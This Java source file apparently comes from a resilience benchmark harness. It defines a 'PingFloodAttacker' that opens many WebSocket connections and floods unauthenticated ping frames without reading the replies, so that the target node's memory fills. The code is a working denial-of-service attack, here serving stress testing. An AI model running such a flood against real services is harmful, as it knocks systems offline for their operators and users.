package io.playline.bench.hostile;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoopGroup;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * WebSocket ping flood before authentication: on each of K connections, the upgrade request
 * followed at once by ping frames with 125-byte payloads (the most a control frame may carry), as
 * fast as the socket accepts them; the connection never reads (auto-read off, a 4 KiB receive
 * buffer), so every pong the node answers waits in the node's memory. The node's close shows when
 * a write fails. Closed connections are reopened.
 */
final class PingFloodAttacker extends Attacker {
  private static final int PINGS_PER_FLUSH = 256;
  /** FIN + ping, masked, 125 bytes, mask key 0 (so the payload goes as is). */
  private static final ByteBuf PING = Unpooled.unreleasableBuffer(Unpooled.directBuffer(131)
      .writeByte(0x89).writeByte(0x80 | 125).writeInt(0).writeZero(125)).asReadOnly();

  PingFloodAttacker(AttackTarget target, EventLoopGroup group, boolean epoll, Duration length) {
    super(AttackKind.PING_FLOOD, target, group, epoll, length);
  }

  @Override
  void begin() {
    for (int i = 0; i < target.connections(); i++) {
      open(target.websocketAddress(), "", true, Duration.ofMillis(50));
    }
  }

  @Override
  void configure(Bootstrap b) {
    b.option(ChannelOption.AUTO_READ, false).option(ChannelOption.SO_RCVBUF, 4096);
  }

  @Override
  void init(Channel ch, String label) {
    byte[] upgrade = upgradeRequest(target);
    ch.pipeline().addLast(new FloodPump(this, PINGS_PER_FLUSH) {
      @Override
      void start(ChannelHandlerContext ctx) {
        ctx.write(Unpooled.wrappedBuffer(upgrade), ctx.voidPromise());
      }

      @Override
      boolean writeOne(ChannelHandlerContext ctx) {
        ctx.write(PING.duplicate(), ctx.voidPromise());
        return true;
      }
    });
  }

  /** A WebSocket upgrade request for the target's path. */
  static byte[] upgradeRequest(AttackTarget t) {
    return ("GET " + t.websocket().getPath() + " HTTP/1.1\r\nHost: " + t.websocket().getHost() + ":"
        + t.websocket().getPort() + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
        .getBytes(StandardCharsets.US_ASCII);
  }
}
